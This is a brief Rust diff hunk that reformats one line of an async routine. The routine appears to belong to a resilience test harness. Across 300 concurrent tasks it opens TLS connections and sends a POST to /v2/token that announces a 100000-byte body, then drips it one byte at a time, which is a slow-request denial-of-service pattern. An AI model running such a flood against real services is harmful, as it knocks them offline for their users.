@@ -72,7 +72,8 @@ async fn connections(attacker: &Attacker) {
     let dripping = (0..300).map(|_| async {
         loop {
             let Some(mut connection) = connect(attacker, &tls, 0).await else { continue };
-            let head = "POST /v2/token HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n";
+            let head =
+                "POST /v2/token HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n";
             let mut open = attacker.write(&mut connection.stream, head.as_bytes()).await;
             while open.is_some() {
                 open = attacker.write(&mut connection.stream, b"a").await;
